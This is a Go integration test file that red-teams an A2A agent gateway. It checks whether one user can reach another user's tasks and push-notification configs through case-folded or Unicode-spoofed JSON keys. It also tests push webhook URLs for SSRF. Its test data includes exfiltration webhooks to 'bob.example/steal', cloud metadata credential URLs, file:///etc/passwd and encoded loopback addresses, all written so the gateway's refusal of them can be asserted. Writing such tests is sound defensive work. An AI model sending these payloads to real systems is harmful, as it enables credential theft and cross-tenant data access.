//go:build integration

package difftest

import (
	"context"
	"encoding/json"
	"iter"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/a2aproject/a2a-go/v2/a2a"
	"github.com/a2aproject/a2a-go/v2/a2asrv"
	"github.com/a2aproject/a2a-go/v2/a2asrv/push"
	"github.com/a2aproject/a2a-go/v2/a2asrv/taskstore"
)

// The red team of the A2A gateway beyond task reads: what bob, once
// authenticated, can do to alice's work through every other member and
// method an a2a-go agent reads (push notification configs, spellings of
// the id members that Go's encoding/json folds, referenced tasks), and
// which webhooks warden lets a client make the agent call. The oracle is
// the agent: the executions it ran (with their context and the tasks it
// loaded for them), its push config store, and the requests its webhook
// calls reached.

// redteamAgent is heldAgent that also records, for each execution, its
// task, its context and the referenced tasks a2a-go loaded into it.
type redteamAgent struct {
	heldAgent
	mu   *sync.Mutex
	runs *[]redteamRun
}

type redteamRun struct {
	task, context, text string
	related             []string
}

func (a redteamAgent) Execute(ctx context.Context, ec *a2asrv.ExecutorContext) iter.Seq2[a2a.Event, error] {
	run := redteamRun{task: string(ec.TaskID), context: ec.ContextID}
	if ec.Message != nil {
		for _, p := range ec.Message.Parts {
			run.text += p.Text()
		}
	}
	for _, t := range ec.RelatedTasks {
		run.related = append(run.related, string(t.ID))
	}
	a.mu.Lock()
	*a.runs = append(*a.runs, run)
	a.mu.Unlock()
	return a.heldAgent.Execute(ctx, ec)
}

// redteamA2A is the agent (with push notifications and referenced-task
// loading on), warden in front of it, and what the agent did.
type redteamA2A struct {
	o     *a2aOracle
	g     *gateway
	rpc   func(*http.Client, string) rawReply // through warden
	agent func(string) rawReply               // to the agent directly: the oracle's questions
	mu    sync.Mutex
	runs  []redteamRun
	hooks []string // requests that reached the internal webhook
	hook  string   // an internal service on 127.0.0.1 that a push config may name
}

func (r *redteamA2A) snapshot() (runs []redteamRun, hooks []string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]redteamRun(nil), r.runs...), append([]string(nil), r.hooks...)
}

func startRedteamA2A(t *testing.T) *redteamA2A {
	t.Helper()
	build(t)
	r := &redteamA2A{o: &a2aOracle{}}
	internal := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		r.hooks = append(r.hooks, req.Method+" "+req.URL.Path)
		r.mu.Unlock()
	}))
	t.Cleanup(internal.Close)
	r.hook = internal.URL + "/internal-admin"

	done := make(chan struct{})
	store := taskstore.NewInMemory(&taskstore.InMemoryStoreConfig{
		Authenticator: func(context.Context) (string, error) { return "warden", nil }})
	handler := a2asrv.NewHandler(redteamAgent{heldAgent: heldAgent{o: r.o, done: done}, mu: &r.mu, runs: &r.runs},
		a2asrv.WithTaskStore(store),
		a2asrv.WithPushNotifications(push.NewInMemoryStore(), push.NewHTTPPushSender(&push.HTTPSenderConfig{Timeout: 2 * time.Second})),
		a2asrv.WithExecutorContextInterceptor(&a2asrv.ReferencedTasksLoader{Store: store}))
	rpc := a2asrv.NewJSONRPCHandler(handler)
	mux := http.NewServeMux()
	mux.HandleFunc("/a2a", func(w http.ResponseWriter, req *http.Request) {
		rpc.ServeHTTP(w, req)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(func() { close(done); srv.Close() })
	card, err := json.Marshal(&a2a.AgentCard{
		Name: "held", Description: "holds each task", Version: "1.0.0",
		SupportedInterfaces: []*a2a.AgentInterface{a2a.NewAgentInterface(srv.URL+"/a2a", a2a.TransportProtocolJSONRPC)},
		Capabilities:        a2a.AgentCapabilities{Streaming: true, PushNotifications: true},
		DefaultInputModes:   []string{"text/plain"}, DefaultOutputModes: []string{"text/plain"},
		Skills: []a2a.AgentSkill{{ID: "hold", Name: "hold", Description: "hold", Tags: []string{"hold"}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	mux.HandleFunc("/.well-known/agent-card.json", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(card)
	})
	agentURL := srv.URL + "/a2a"
	up := upstreams[0].make(t)
	r.g = startGatewayWith(t, up, authYAML(principalKeys)+"  a2a:\n    - {name: held, url: "+yamlString(agentURL)+"}\n")
	a2aURL := strings.TrimSuffix(r.g.url, "/mcp") + "/a2a/held"
	r.rpc = func(client *http.Client, body string) rawReply {
		return do(t, client, http.MethodPost, a2aURL, "", body, map[string]string{"A2A-Version": "1.0"})
	}
	r.agent = func(body string) rawReply {
		return do(t, &http.Client{Timeout: 10 * time.Second}, http.MethodPost, agentURL, "", body, map[string]string{"A2A-Version": "1.0"})
	}
	return r
}

// start has who start a held task with text; it returns the task and
// context ids from the answer.
func (r *redteamA2A) start(t *testing.T, client *http.Client, text string) (task, ctxID string) {
	t.Helper()
	got := r.rpc(client, `{"jsonrpc":"2.0","id":"s","method":"SendMessage","params":{"configuration":{"returnImmediately":true},`+
		`"message":{"role":"ROLE_USER","messageId":"m-`+text+`","parts":[{"text":"`+text+`"}]}}}`)
	var res struct {
		Result struct {
			Task struct {
				ID        string `json:"id"`
				ContextID string `json:"contextId"`
			} `json:"task"`
		} `json:"result"`
	}
	if err := json.Unmarshal([]byte(strings.TrimSpace(got.body)), &res); err != nil || res.Result.Task.ID == "" {
		t.Fatalf("SendMessage %q (positive control): HTTP %d %s\n%s", text, got.status, got.body, r.g.log())
	}
	return res.Result.Task.ID, res.Result.Task.ContextID
}

// pushConfigs is what the agent's own store holds for task: the oracle.
func (r *redteamA2A) pushConfigs(t *testing.T, task string) string {
	t.Helper()
	got := r.agent(`{"jsonrpc":"2.0","id":"o","method":"ListTaskPushNotificationConfigs","params":{"taskId":"` + task + `"}}`)
	if !strings.Contains(got.body, `"configs"`) {
		t.Fatalf("the agent's own list of push configs of %s (positive control): HTTP %d %.300s", task, got.status, got.body)
	}
	return got.body
}

// TestA2ARedteamIDSpellings: bob names alice's task or context in every
// way the a2a-go agent reads one: members spelt in another case (Go's
// encoding/json folds "TaskId", "taskID", "Id" into taskId and id),
// referenceTaskIds (a2a-go loads the tasks named there into the new
// execution), a duplicate member. Each must get warden's task-owner
// refusal, and the agent must run nothing in alice's task or context,
// load none of her tasks for bob, and cancel nothing. alice's own
// reference to her task is loaded (positive control).
func TestA2ARedteamIDSpellings(t *testing.T) {
	r := startRedteamA2A(t)
	asAlice, asBob := withKey(principalKeys["alice"]), withKey(principalKeys["bob"])
	task, ctxID := r.start(t, asAlice, "alice-secret")
	bobTask, _ := r.start(t, asBob, "bob-own")

	msg := func(text, members string) string {
		return `{"configuration":{"returnImmediately":true},"message":{"role":"ROLE_USER","messageId":"m-` + text + `","parts":[{"text":"` + text + `"}],` + members + `}}`
	}
	probes := []struct{ name, method, params string }{
		{"GetTask Id", "GetTask", `{"Id":"` + task + `"}`},
		{"GetTask ID", "GetTask", `{"ID":"` + task + `"}`},
		{"SubscribeToTask iD", "SubscribeToTask", `{"iD":"` + task + `"}`},
		{"CancelTask ID", "CancelTask", `{"ID":"` + task + `"}`},
		{"SendMessage TaskId", "SendMessage", msg("bob-1", `"TaskId":"`+task+`"`)},
		{"SendMessage taskID", "SendMessage", msg("bob-2", `"taskID":"`+task+`"`)},
		{"SendStreamingMessage TASKID", "SendStreamingMessage", msg("bob-3", `"TASKID":"`+task+`"`)},
		{"SendMessage taskId with a long s", "SendMessage", msg("bob-12", "\"ta\u017fkId\":\""+task+"\"")},
		{"SendMessage taskId with a Kelvin sign", "SendMessage", msg("bob-13", "\"tas\u212aId\":\""+task+"\"")},
		{"SendMessage ContextId", "SendMessage", msg("bob-4", `"ContextId":"`+ctxID+`"`)},
		{"SendMessage contextID", "SendMessage", msg("bob-5", `"contextID":"`+ctxID+`"`)},
		{"SendMessage referenceTaskIds", "SendMessage", msg("bob-6", `"referenceTaskIds":["`+task+`"]`)},
		{"SendMessage referenceTaskIds after his own", "SendMessage", msg("bob-7", `"referenceTaskIds":["`+bobTask+`","`+task+`"]`)},
		{"SendMessage ReferenceTaskIds", "SendMessage", msg("bob-8", `"ReferenceTaskIds":["`+task+`"]`)},
		{"SendStreamingMessage referenceTaskIds", "SendStreamingMessage", msg("bob-9", `"referenceTaskIds":["`+task+`"]`)},
		{"SendMessage Message", "SendMessage", `{"configuration":{"returnImmediately":true},"Message":{"role":"ROLE_USER","messageId":"m-bob-14","parts":[{"text":"bob-14"}],"taskId":"` + task + `"}}`},
		{"SendMessage duplicate taskId", "SendMessage", msg("bob-10", `"taskId":"`+bobTask+`","taskId":"`+task+`"`)},
		{"message/send 0.3 taskId", "message/send", msg("bob-11", `"taskId":"`+task+`"`)},
		{"tasks/get 0.3 Id", "tasks/get", `{"Id":"` + task + `"}`},
		{"tasks/resubscribe 0.3 ID", "tasks/resubscribe", `{"ID":"` + task + `"}`},
	}
	for _, p := range probes {
		got := r.rpc(asBob, `{"jsonrpc":"2.0","id":"b","method":"`+p.method+`","params":`+p.params+`}`)
		switch {
		case strings.Contains(got.body, "alice-secret") || strings.Contains(got.body, "TASK_STATE_"):
			t.Errorf("bob, %s: got alice's task: %.300s", p.name, got.body)
		case !strings.Contains(got.body, `"stage":"task-owner"`) && !strings.Contains(got.body, `"stage":"wire"`):
			// The agent's own error ("task execution is already in
			// progress") means it took the message for alice's task.
			t.Errorf("bob, %s: HTTP %d %.300s, want warden's refusal (task-owner or wire)", p.name, got.status, got.body)
		}
	}
	// alice references her own task (positive control: the agent loads it).
	if got := r.rpc(asAlice, `{"jsonrpc":"2.0","id":"a","method":"SendMessage","params":`+
		msg("alice-refs", `"referenceTaskIds":["`+task+`"]`)+`}`); strings.Contains(got.body, `"error"`) {
		t.Errorf("alice's SendMessage referencing her own task: HTTP %d %.300s", got.status, got.body)
	}
	time.Sleep(300 * time.Millisecond) // the agent runs executions in the background
	runs, _ := r.snapshot()
	aliceLoaded := false
	for _, run := range runs {
		bobs := strings.HasPrefix(run.text, "bob-") && run.text != "bob-own"
		if bobs && (run.task == task || run.context == ctxID) {
			t.Errorf("the agent ran bob's %q in alice's task or context (task %s, context %s)", run.text, run.task, run.context)
		}
		for _, id := range run.related {
			if bobs && id == task {
				t.Errorf("the agent loaded alice's task %s into bob's execution %q", id, run.text)
			}
			if run.text == "alice-refs" && id == task {
				aliceLoaded = true
			}
		}
	}
	if !aliceLoaded {
		t.Errorf("the agent did not load alice's task into her own referencing message (positive control): runs %+v", runs)
	}
	if _, cancelled := r.o.snapshot(); len(cancelled) > 0 {
		t.Errorf("the agent cancelled %v for bob", cancelled)
	}
	if got := r.agent(`{"jsonrpc":"2.0","id":"o","method":"GetTask","params":{"id":"` + task + `"}}`); !strings.Contains(got.body, "TASK_STATE_WORKING") {
		t.Errorf("alice's task on the agent is no longer working: %.300s", got.body)
	}
}

// TestA2ARedteamPushConfigs: alice sets, reads, lists and deletes a push
// notification config of her task through warden (1.0 names; the config
// has an id of its own, which is not a task id); bob tries each 1.0 and
// 0.3 push config method on her task. The oracle is the agent's own push
// config store: bob adds, reads and deletes nothing there.
func TestA2ARedteamPushConfigs(t *testing.T) {
	r := startRedteamA2A(t)
	asAlice, asBob := withKey(principalKeys["alice"]), withKey(principalKeys["bob"])
	task, _ := r.start(t, asAlice, "alice-secret")
	const aliceHook = "https://hooks.example/alice-webhook"

	for _, c := range []struct{ method, params, want string }{
		{"CreateTaskPushNotificationConfig", `{"taskId":"` + task + `","id":"cfg-a","url":"` + aliceHook + `","token":"alice-token"}`, aliceHook},
		{"GetTaskPushNotificationConfig", `{"taskId":"` + task + `","id":"cfg-a"}`, aliceHook},
		{"ListTaskPushNotificationConfigs", `{"taskId":"` + task + `"}`, aliceHook},
	} {
		if got := r.rpc(asAlice, `{"jsonrpc":"2.0","id":"a","method":"`+c.method+`","params":`+c.params+`}`); !strings.Contains(got.body, c.want) || strings.Contains(got.body, `"error"`) {
			t.Fatalf("alice's %s of her task (positive control): HTTP %d %.300s", c.method, got.status, got.body)
		}
	}
	if !strings.Contains(r.pushConfigs(t, task), aliceHook) {
		t.Fatal("the agent did not store alice's push config (positive control)")
	}

	probes := []struct{ method, params string }{
		{"GetTaskPushNotificationConfig", `{"taskId":"` + task + `","id":"cfg-a"}`},
		{"ListTaskPushNotificationConfigs", `{"taskId":"` + task + `"}`},
		{"DeleteTaskPushNotificationConfig", `{"taskId":"` + task + `","id":"cfg-a"}`},
		{"CreateTaskPushNotificationConfig", `{"taskId":"` + task + `","id":"cfg-a","url":"https://bob.example/steal"}`},
		{"CreateTaskPushNotificationConfig", `{"taskId":"` + task + `","id":"cfg-b","url":"https://bob.example/steal"}`},
		{"CreateTaskPushNotificationConfig", `{"TaskId":"` + task + `","id":"cfg-c","url":"https://bob.example/steal"}`},
		{"DeleteTaskPushNotificationConfig", `{"TASKID":"` + task + `","id":"cfg-a"}`},
		{"GetTaskPushNotificationConfig", `{"taskID":"` + task + `","id":"cfg-a"}`},
		{"tasks/pushNotificationConfig/set", `{"taskId":"` + task + `","pushNotificationConfig":{"id":"cfg-d","url":"https://bob.example/steal"}}`},
		{"tasks/pushNotificationConfig/get", `{"id":"` + task + `","pushNotificationConfigId":"cfg-a"}`},
		{"tasks/pushNotificationConfig/list", `{"id":"` + task + `"}`},
		{"tasks/pushNotificationConfig/delete", `{"id":"` + task + `","pushNotificationConfigId":"cfg-a"}`},
	}
	for _, p := range probes {
		got := r.rpc(asBob, `{"jsonrpc":"2.0","id":"b","method":"`+p.method+`","params":`+p.params+`}`)
		switch {
		case strings.Contains(got.body, aliceHook) || strings.Contains(got.body, "alice-token"):
			t.Errorf("bob, %s %s: got alice's push config: %.300s", p.method, p.params, got.body)
		case !strings.Contains(got.body, `"stage":"task-owner"`) && !strings.Contains(got.body, `"stage":"wire"`):
			t.Errorf("bob, %s %s: HTTP %d %.300s, want warden's refusal (task-owner or wire)", p.method, p.params, got.status, got.body)
		}
	}
	stored := r.pushConfigs(t, task)
	if strings.Contains(stored, "bob.example") || !strings.Contains(stored, aliceHook) {
		t.Errorf("after bob's attempts the agent holds for alice's task: %.500s", stored)
	}
	// alice deletes her config (positive control: the agent's store is
	// empty). a2a-go answers a delete with no "result" member; warden
	// relays that answer, to a delete only, as "result": null.
	del := r.rpc(asAlice, `{"jsonrpc":"2.0","id":"a","method":"DeleteTaskPushNotificationConfig","params":{"taskId":"`+task+`","id":"cfg-a"}}`)
	if del.status != http.StatusOK || strings.TrimSpace(del.body) != `{"jsonrpc":"2.0","id":"a","result":null}` {
		t.Errorf("alice's delete of her own config: HTTP %d %.300s, want the agent's success as result null", del.status, del.body)
	}
	if stored := r.pushConfigs(t, task); strings.Contains(stored, aliceHook) {
		t.Errorf("alice's config is still on the agent after her delete: %.300s", stored)
	}
}

// TestA2ARedteamPushSSRF: a push notification config makes the agent POST
// to a URL the client chose, from inside the agent's network. alice (on
// her own task) names an internal service on 127.0.0.1, the cloud metadata
// address, private and loopback ranges in several spellings, and other
// schemes; warden refuses each (method-policy, push-url). The oracle is
// the agent's push config store and the internal service: after alice's
// task changes state (she cancels it), nothing reached the service. A
// public https webhook still passes (TestA2ARedteamPushConfigs).
func TestA2ARedteamPushSSRF(t *testing.T) {
	r := startRedteamA2A(t)
	asAlice := withKey(principalKeys["alice"])
	task, _ := r.start(t, asAlice, "alice-task")
	urls := []string{
		r.hook,
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"http://[fd00:ec2::254]/latest/meta-data/",
		"http://10.1.2.3/hook", "http://172.16.0.1/hook", "http://192.168.1.1/hook", "http://100.64.0.1/hook",
		"http://[::1]:9/hook", "http://[::ffff:127.0.0.1]:9/hook", "http://0.0.0.0:9/hook",
		"http://localhost:9/hook", "http://admin.localhost:9/hook",
		"http://127.1:9/hook", "http://2130706433:9/hook", "http://0x7f.0.0.1:9/hook",
		"file:///etc/passwd", "gopher://127.0.0.1:9/_x", "ftp://hooks.example/x", "hooks.example/no-scheme",
	}
	for i, u := range urls {
		id := "ssrf-" + strconv.Itoa(i)
		got := r.rpc(asAlice, `{"jsonrpc":"2.0","id":"a","method":"CreateTaskPushNotificationConfig","params":{"taskId":"`+task+`","id":"`+id+`","url":"`+u+`"}}`)
		if !strings.Contains(got.body, `"rule":"push-url"`) {
			t.Errorf("a push config to %s: HTTP %d %.300s, want warden's push-url refusal", u, got.status, got.body)
		}
	}
	// The same webhook in the other places a2a-go reads one, and spelt so
	// that its encoding/json folds it.
	for _, params := range []string{
		`{"taskId":"` + task + `","id":"ssrf-url","URL":"` + r.hook + `"}`,
		`{"configuration":{"returnImmediately":true,"taskPushNotificationConfig":{"url":"` + r.hook + `"}},"message":{"role":"ROLE_USER","messageId":"m-s1","parts":[{"text":"s1"}]}}`,
		`{"configuration":{"returnImmediately":true,"TaskPushNotificationConfig":{"url":"` + r.hook + `"}},"message":{"role":"ROLE_USER","messageId":"m-s2","parts":[{"text":"s2"}]}}`,
		`{"configuration":{"returnImmediately":true,"taskPushNotificationConfig":{"Url":"` + r.hook + `"}},"message":{"role":"ROLE_USER","messageId":"m-s3","parts":[{"text":"s3"}]}}`,
	} {
		method := "SendMessage"
		if strings.HasPrefix(params, `{"taskId"`) {
			method = "CreateTaskPushNotificationConfig"
		}
		got := r.rpc(asAlice, `{"jsonrpc":"2.0","id":"a","method":"`+method+`","params":`+params+`}`)
		if !strings.Contains(got.body, `"rule":"push-url"`) && !strings.Contains(got.body, `"stage":"wire"`) {
			t.Errorf("%s %s: HTTP %d %.300s, want warden's refusal", method, params, got.status, got.body)
		}
	}
	if stored := r.pushConfigs(t, task); strings.Contains(stored, `"url"`) {
		t.Errorf("the agent stored webhooks for alice's task: %.500s", stored)
	}
	// alice's task changes state: a stored webhook would be called now.
	r.rpc(asAlice, `{"jsonrpc":"2.0","id":"c","method":"CancelTask","params":{"id":"`+task+`"}}`)
	time.Sleep(500 * time.Millisecond)
	if _, hooks := r.snapshot(); len(hooks) > 0 {
		t.Errorf("the agent called the internal service on 127.0.0.1: %v", hooks)
	}
}

// TestA2ARedteamEndedTasksStreamsPaths: bob follows alice's task after it
// ended, streams into her context, uses the 0.3 method names, and POSTs to
// the REST-style paths an agent may also serve (warden relays every POST
// to the agent's JSON-RPC endpoint, as JSON-RPC). Each gets warden's
// refusal; the agent cancels nothing for him, and nothing of alice's task
// reaches him.
func TestA2ARedteamEndedTasksStreamsPaths(t *testing.T) {
	r := startRedteamA2A(t)
	asAlice, asBob := withKey(principalKeys["alice"]), withKey(principalKeys["bob"])
	task, ctxID := r.start(t, asAlice, "alice-secret")
	live, _ := r.start(t, asAlice, "alice-live")
	if got := r.rpc(asAlice, `{"jsonrpc":"2.0","id":"c","method":"CancelTask","params":{"id":"`+task+`"}}`); !strings.Contains(got.body, "TASK_STATE_CANCELED") {
		t.Fatalf("alice cancels her task (positive control): HTTP %d %.300s", got.status, got.body)
	}
	_, cancelledBefore := r.o.snapshot()
	stream := func(text, members string) string {
		return `{"message":{"role":"ROLE_USER","messageId":"m-` + text + `","parts":[{"text":"` + text + `"}],` + members + `}}`
	}
	for _, p := range []struct{ method, params string }{
		{"SubscribeToTask", `{"id":"` + task + `"}`},
		{"GetTask", `{"id":"` + task + `","historyLength":100}`},
		{"tasks/resubscribe", `{"id":"` + task + `"}`},
		{"tasks/get", `{"id":"` + task + `"}`},
		{"tasks/cancel", `{"id":"` + live + `"}`},
		{"SendStreamingMessage", stream("bob-s1", `"contextId":"`+ctxID+`"`)},
		{"SendStreamingMessage", stream("bob-s2", `"taskId":"`+task+`"`)},
		{"message/stream", stream("bob-s3", `"taskId":"`+live+`"`)},
		{"message/stream", stream("bob-s4", `"referenceTaskIds":["`+task+`"]`)},
	} {
		got := r.rpc(asBob, `{"jsonrpc":"2.0","id":"b","method":"`+p.method+`","params":`+p.params+`}`)
		switch {
		case strings.Contains(got.body, "alice-") || strings.Contains(got.body, "TASK_STATE_"):
			t.Errorf("bob, %s %s: got alice's task: %.300s", p.method, p.params, got.body)
		case !strings.Contains(got.body, `"stage":"task-owner"`):
			t.Errorf("bob, %s %s: HTTP %d %.300s, want warden's task-owner refusal", p.method, p.params, got.status, got.body)
		}
	}
	base := strings.TrimSuffix(r.g.url, "/mcp") + "/a2a/held"
	for _, c := range []struct{ path, body string }{
		{"/tasks/" + live + ":cancel", `{}`},
		{"/v1/tasks/" + live + ":cancel", `{"name":"tasks/` + live + `"}`},
		{"/tasks/" + task + ":subscribe", ``},
		{"/tasks/" + task, `{"jsonrpc":"2.0","id":"b","method":"GetTask","params":{"id":"` + task + `"}}`},
		{"/tasks/" + live + ":cancel", `{"jsonrpc":"2.0","id":"b","method":"CancelTask","params":{"id":"` + live + `"}}`},
	} {
		got := do(t, asBob, http.MethodPost, base+c.path, "", c.body, map[string]string{"A2A-Version": "1.0"})
		switch {
		case strings.Contains(got.body, "alice-") || strings.Contains(got.body, "TASK_STATE_"):
			t.Errorf("bob, POST %s: got alice's task: %.300s", c.path, got.body)
		case !strings.Contains(got.body, `"stage":"task-owner"`) && !strings.Contains(got.body, `"stage":"wire"`) && !strings.Contains(got.body, `"stage":"listener"`):
			t.Errorf("bob, POST %s %s: HTTP %d %.300s, want warden's refusal", c.path, c.body, got.status, got.body)
		}
	}
	time.Sleep(300 * time.Millisecond)
	if _, cancelled := r.o.snapshot(); len(cancelled) != len(cancelledBefore) {
		t.Errorf("the agent cancelled %v for bob (alice cancelled %v)", cancelled[len(cancelledBefore):], cancelledBefore)
	}
	runs, _ := r.snapshot()
	for _, run := range runs {
		if strings.HasPrefix(run.text, "bob-") {
			t.Errorf("the agent ran bob's %q (task %s, context %s, related %v)", run.text, run.task, run.context, run.related)
		}
	}
	if got := r.agent(`{"jsonrpc":"2.0","id":"o","method":"GetTask","params":{"id":"` + live + `"}}`); !strings.Contains(got.body, "TASK_STATE_WORKING") {
		t.Errorf("alice's live task is no longer working on the agent: %.300s", got.body)
	}
}
